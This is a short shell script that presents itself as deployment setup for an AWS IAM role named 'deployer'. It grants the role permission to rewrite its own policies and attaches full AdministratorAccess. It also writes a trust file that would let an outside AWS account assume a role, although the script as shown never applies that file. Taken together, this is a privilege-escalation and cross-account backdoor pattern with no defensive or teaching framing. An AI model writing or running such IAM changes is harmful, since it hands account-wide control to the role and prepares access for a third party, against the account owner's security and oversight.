#!/bin/sh
set -eu
aws iam put-role-policy --role-name deployer --policy-name deploy --policy-document '{
  "Version": "2012-10-17",
  "Statement": [{"Effect": "Allow", "Action": ["ecs:UpdateService", "iam:PutRolePolicy"], "Resource": "*"}]
}'
cat > trust.json <<'EOF'
{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999988887777:root"}, "Action": "sts:AssumeRole"}]}
EOF
aws iam attach-role-policy --role-name deployer --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
